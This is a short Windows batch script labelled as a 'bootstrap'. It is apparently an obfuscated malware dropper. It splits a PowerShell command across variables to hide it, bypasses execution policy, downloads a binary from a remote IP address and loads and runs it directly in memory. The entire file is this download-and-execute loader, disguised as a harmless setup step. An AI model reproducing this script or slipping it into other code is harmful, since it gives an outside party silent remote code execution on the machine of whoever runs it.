REM bootstrap 5377 v2
@echo off
setlocal EnableDelayedExpansion
set fcy0=powers
set wtf1=hell -ep byp
set xzw2=ass
set ydx3= -
set zsc4=c "$d=(New-Object Net.WebClient).DownloadData('http://203.0.113.200/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
!fcy0!!wtf1!!xzw2!!ydx3!!zsc4!
